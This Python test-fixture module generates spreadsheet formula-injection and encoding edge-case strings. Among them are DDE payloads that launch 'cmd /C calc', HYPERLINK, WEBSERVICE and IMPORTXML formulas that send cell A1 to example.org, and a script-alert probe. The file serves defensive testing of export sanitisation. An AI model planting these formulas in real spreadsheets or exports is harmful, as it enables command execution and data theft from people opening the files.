"""Texts that somebody could write to be run by a spreadsheet, or that a file could choke on."""

from __future__ import annotations

import unicodedata
from itertools import product
from typing import Final

_FIRST: Final = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    "\t=",
    "\r=",
    "\n=",
    "\r\n=",
    ";=",
    '"=',
    " =",
    "|",
    "%",
)
_PAYLOADS: Final = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://example.org/?"&A1,"x")', "WEBSERVICE(\"https://example.org\")",
    "SUM(A1:A9)", "IMPORTXML(CONCAT(\"https://example.org/\",A1),\"//a\")", "DDE(\"cmd\",\"/C calc\",\"x\")", "2018",
    "-1.5", "作品登记", "a,b;c\td", 'a "quoted" b', "a\nb", "a\r\nb", "a\rb", "1e5", "TRUE", "#REF!", "''", "",
    "<script>alert(1)</script>", "{named} %s", "\u202egnirts", "مرحبا", "😀 𠮷",
)  # fmt: skip
_OTHERS: Final = (
    "_x000D_", "_x000d_=1", "_x005F_x000D_", "a_x0041_b", "\x00", "a\x00b", "\x1b[31m", "a\x7fb", "\x85", "\ufeff=1",
    "\u200b=1", "\ufffe", "\uffff", "#N/A", "#DIV/0!", "=1", "=", "-", "+", "@", "'", "''", '"', '""', ",", ";",
    "2018-06-01", "1/2", "1,234", "00012", "1.0", "NaN", "null", "None", "True", "]]> &amp; <",
    "a" * 2000, "字" * 2000,
    "=" + "A" * 1999, "注：x", "资料来源：x", "C:\\x", "\\\\host\\share", "..\\..", "https://example.org/?a=1&b=2",
    "mailto:a@example.org", "\u00a0=1", "\u3000＝1", "\u2028=1", "e\u0301=1", "㏄=1",
)  # fmt: skip
#: More than 500, each once, none empty.
TEXTS: Final = tuple(
    dict.fromkeys([*(first + payload for first, payload in product(_FIRST, _PAYLOADS)), *_OTHERS])
)


def seen(text: str) -> str:
    """What is left of a text in a file: a sign for each character that no file holds."""
    return "".join(
        "\ufffd"
        if (unicodedata.category(one) in ("Cc", "Cs") and one not in "\t\r\n") or ord(one) in (0xFFFE, 0xFFFF)
        else one
        for one in text
    )
